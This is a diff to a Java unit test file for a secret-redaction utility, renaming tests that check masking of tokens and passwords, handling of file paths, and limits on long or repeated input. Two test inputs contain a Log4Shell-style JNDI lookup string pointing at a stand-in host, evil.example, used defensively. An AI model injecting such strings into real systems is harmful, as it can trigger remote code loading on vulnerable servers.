@@ -74,7 +74,7 @@ class RedactorTest {
   }
 
   @Test
-  void text_attackInASecretsPlace_staysAndOtherSecretsDoNot() {
+  void text_attackInPlaceOfASecret_isShown_andOtherSecretsAreMasked() {
     assertThat(redactor.text("token=abc123secret&x=${jndi:ldap://evil.example/a}"))
         .isEqualTo("token=***&x=${jndi:ldap://evil.example/a}");
     assertThat(redactor.text("token=${jndi:ldap://evil.example/a}&password=" + SECRET))
@@ -85,7 +85,7 @@ class RedactorTest {
   }
 
   @Test
-  void value_namesAFile_staysAsItIs() {
+  void value_pathOfAFile_isUnchanged() {
     assertThat(redactor.value("whorl.collector.token-file", "/run/secrets/token"))
         .isEqualTo("/run/secrets/token");
   }
@@ -128,7 +128,7 @@ class RedactorTest {
   }
 
   @Test
-  void text_whatStandsBesideASecret_stays() {
+  void text_besideASecret_isUnchanged() {
     assertThat(
             redactor.text(
                 "-javaagent:/w.jar=service.name=shop,collector.token=" + SECRET + ",rules.path=/x"))
@@ -240,7 +240,7 @@ class RedactorTest {
   }
 
   @Test
-  void text_tooLongToLookAt_isMaskedWhole() {
+  void text_tooLong_isMaskedWhole() {
     assertThat(redactor.text("x".repeat(300_000))).isEqualTo("***");
     assertThat(redactor.secret("x".repeat(1_000))).isTrue();
   }
@@ -269,7 +269,7 @@ class RedactorTest {
         "🙂",
         "\uD800"
       })
-  void text_hostileRepetition_staysQuick(String piece) {
+  void text_hostileRepetition_isFast(String piece) {
     String text = piece.repeat(200_000 / piece.length());
 
     Assertions.assertTimeout(Duration.ofSeconds(2), () -> redactor.text(text));
